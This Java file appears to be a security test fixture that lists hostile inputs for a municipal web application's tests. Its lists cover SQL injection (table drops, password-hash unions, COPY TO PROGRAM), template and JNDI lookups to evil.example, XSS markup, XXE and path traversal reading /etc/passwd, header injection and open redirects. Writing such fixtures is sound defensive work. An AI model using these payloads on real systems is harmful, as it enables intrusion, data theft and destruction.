package rathaus.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Texts that nobody types by accident. Those that could come back carry {@link #MARK}; those that could be calculated
 * multiply two primes.
 */
final class Payloads {

    /** Stands in every text that must not come back unescaped and must not get into a log. */
    static final String MARK = "hx7mark";

    /** What an expression would show if somebody evaluated it: 7919 times 7907. */
    static final String EVALUATED = "62615533";

    private static final String PRODUCT = "7919*7907";

    static final List<String> WRONG_TYPES = List.of(
            "-1",
            "0",
            "NaN",
            "1e309",
            "-0.0",
            "99999999999999999999",
            "9223372036854775808",
            "2147483648",
            "0x7f",
            "true",
            "null",
            "undefined",
            "[]",
            "{}",
            "[object Object]",
            "2026-02-31",
            "0000-00-00",
            "31.02.2026",
            "99.99.9999",
            "+999999999-12-31",
            "25:61",
            "٣٤٥",
            "１２３",
            "1,5",
            "1.000.000,00",
            "",
            " ",
            "/",
            ".",
            "\u00e4\u00f6\u00fc\ud83d\ude00",
            "a\u0301\u0301\u0301",
            "00000000-0000-0000-0000-000000000000",
            "1-1-1-1-1",
            "01a20310-0000-7000-8000-00000000000g");

    static final List<String> SQL = List.of(
            "' OR '1'='1",
            "1; DROP TABLE applications.antrag; --",
            "' UNION SELECT login, password_hash FROM identity.staff_account --",
            "1' AND (SELECT pg_sleep(20)) IS NOT NULL --",
            "'||(SELECT current_user)||'",
            "\\'; COPY (SELECT 1) TO PROGRAM 'id'; --",
            "$$;SELECT set_config('rathaus.kommune','2',false);$$",
            "%' ESCAPE '!' --",
            ":kommune",
            "?",
            "E'\\x00'",
            "1)) OR 1=CAST((SELECT version()) AS int)--",
            MARK + "' && ' | ! ( <-> :*");

    static final List<String> EXPRESSIONS = List.of(
            "${" + PRODUCT + "}",
            "#{" + PRODUCT + "}",
            "*{" + PRODUCT + "}",
            "{{" + PRODUCT + "}}",
            "{{{" + PRODUCT + "}}}",
            "{{#a}}{{/a}}{{>b}}{{=<% %>=}}",
            "<%= " + PRODUCT + " %>",
            "@if(true)" + PRODUCT + "@endif${" + PRODUCT + "}",
            "!{var x=" + PRODUCT + ";}${x}",
            "$unsafe{\"<hx7 " + MARK + ">\"}",
            "T(java.util.UUID).randomUUID()",
            "__${" + PRODUCT + "}__::.x",
            "redirect:http://evil.example/",
            "forward:/amt/eingang",
            "= " + PRODUCT,
            "for i in 1..1000000 return for j in 1..1000000 return i*j",
            "function(a) external {java:{class:\"java.util.UUID\",method signature:\"randomUUID()\"}}",
            "${jndi:ldap://evil.example/" + MARK + "}",
            "=cmd|'/c calc'!A1",
            "{0} {1,choice,0#a|1#b} '{",
            "%s%n%x%99999999d");

    static final List<String> MARKUP = List.of(
            "<hx7 onload=alert(1)>" + MARK,
            "\"><hx7 x=\"" + MARK,
            "' onhx7='1",
            "\" onhx7=\"1",
            "</title><hx7>" + MARK,
            "</textarea><hx7>" + MARK,
            "</script><hx7>" + MARK,
            "<!--<hx7>--!><hx7>",
            "<svg><hx7/></svg>" + MARK,
            "&lt;hx7&gt;&#60;hx7&#62;<hx7>",
            "\u2028<hx7>\u2029" + MARK,
            "javascript:alert('" + MARK + "')",
            "data:text/html,<hx7>",
            "<hx7 style=x:expression(1)>",
            "<![CDATA[<hx7>]]>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><hx7>&e;</hx7>");

    static final List<String> INJECTED_LINES = List.of(
            "x\r\nX-Hx7: 1",
            "x\r\nSet-Cookie: hx7=1; Path=/",
            "x\r\n\r\n<hx7>" + MARK,
            "x\nX-Hx7: 1",
            "x\rX-Hx7: 1",
            "a@b.example\r\nBcc: hx7@evil.example",
            "\"a\r\n\"@b.example",
            "x\u2028X-Hx7: 1",
            "x\u560d\u560aX-Hx7: 1",
            "//evil.example/" + MARK,
            "https://evil.example/",
            "/\\evil.example/",
            "\\\\evil.example\\x",
            "/%09/evil.example",
            "/amt/../../evil.example");

    /** Paths out of where one should be; as they go over the wire. */
    static final List<String> PATHS = List.of(
            "../",
            "..%2f",
            "%2e%2e/",
            "%2e%2e%2f",
            "..%5c",
            "..\\",
            "..;/",
            ";jsessionid=1/../",
            "%252e%252e%252f",
            "%c0%ae%c0%ae/",
            "....//",
            "/",
            "//evil.example/",
            ".%00/",
            "%2f",
            "%5c",
            ";a=b;c",
            "%3b",
            "*",
            "~/",
            "%e2%80%a6/",
            "WEB-INF/web.xml",
            "META-INF/MANIFEST.MF",
            "../../../../../../etc/passwd",
            "..%2f..%2f..%2f..%2fetc%2fpasswd",
            "file:///etc/passwd",
            ".git/config",
            "application.yaml",
            "actuator/env",
            "actuator/heapdump",
            "rathaus/Rathaus.class");

    /** What is no UTF-8, or no percent-encoding; as it goes over the wire. */
    static final List<String> BROKEN_TEXT = List.of(
            "%",
            "%1",
            "%zz",
            "%u0041",
            "%c0%af",
            "%c1%81",
            "%e0%80%af",
            "%ed%a0%80",
            "%ed%b0%80%ed%a0%80",
            "%f4%90%80%80",
            "%f8%88%80%80%80",
            "%ff%fe",
            "%80",
            "%e2%82",
            "%ef%bf%bf",
            "%ef%b7%90",
            "\u00ff\u00fe",
            "\u00c3\u0028",
            "%25%",
            "%00%ff");

    /** Characters that are no text; as they go over the wire. */
    static final List<String> CONTROLS = List.of(
            "%00",
            "a%00b",
            "%01%02%03",
            "%08%7f",
            "%0b%0c",
            "%1b%5b31m" + MARK,
            "%0d",
            "%0a",
            "%0d%0a",
            "%c2%85",
            "%c2%9b",
            "%e2%80%ae" + MARK,
            "%e2%81%a6%e2%80%8b",
            "%ef%bb%bf",
            "%f3%a0%80%81",
            "%ef%bf%bd",
            "%e2%80%a8");

    private Payloads() {}

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
